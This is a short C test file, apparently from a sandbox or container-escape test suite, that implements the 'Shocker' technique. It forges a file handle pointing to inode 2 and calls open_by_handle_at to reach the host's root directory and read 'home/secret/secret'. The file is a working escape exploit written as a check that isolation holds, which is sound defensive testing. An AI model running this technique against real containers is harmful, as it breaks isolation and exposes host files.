// SPDX-License-Identifier: Apache-2.0
/* "Shocker": the host's root directory has inode 2, and handles can be guessed. */
#include "runner/escape.h"

ESCAPE("opens the host's root directory by a file handle", .rule = "hostFiles")
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} root = { .handle.handle_bytes = MAX_HANDLE_SZ };
	int mount_id, mount = open(SHARED, O_RDONLY | O_DIRECTORY), directory;

	must(mount);
	must(name_to_handle_at(AT_FDCWD, SHARED, &root.handle, &mount_id, 0));
	memcpy(root.handle.f_handle, &(unsigned[]){ 2, 0 }, 8);
	directory = open_by_handle_at(mount, &root.handle, O_RDONLY | O_DIRECTORY);
	return directory < 0 ? -1 : openat(directory, "home/secret/secret", O_RDONLY);
}
